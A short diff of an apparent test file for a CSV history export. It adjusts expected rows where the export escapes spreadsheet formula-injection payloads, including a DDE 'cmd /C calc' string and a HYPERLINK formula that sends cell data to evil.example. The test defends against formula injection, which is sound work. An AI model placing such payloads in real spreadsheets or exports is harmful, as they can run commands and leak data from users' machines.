@@ -73,8 +73,8 @@ describe('history export as CSV', () => {
       `"'@SUM(1+1)*cmd|"" /C calc""!A0",1,"'=HYPERLINK(""http://evil.example/?x=""&A1)",1,,,,,,-3`,
       `"'@SUM(1+1)*cmd|"" /C calc""!A0",2,'+1+1,1,,,,,,-3`,
       `"'@SUM(1+1)*cmd|"" /C calc""!A0",3,'-2+3,1,,,,,,-3`,
-      `"'@SUM(1+1)*cmd|"" /C calc""!A0",4,'\t=1+1,1,,,,,,-3`,
-      `"'@SUM(1+1)*cmd|"" /C calc""!A0",5,"'\r=1+1",1,,,,,,-3`,
+      `"'@SUM(1+1)*cmd|"" /C calc""!A0",4,"\t'=1+1",1,,,,,,-3`,
+      `"'@SUM(1+1)*cmd|"" /C calc""!A0",5,"\r'=1+1",1,,,,,,-3`,
       `"'@SUM(1+1)*cmd|"" /C calc""!A0",6,Safe = Club,1,,,,,,-3`,
       '',
     ]);
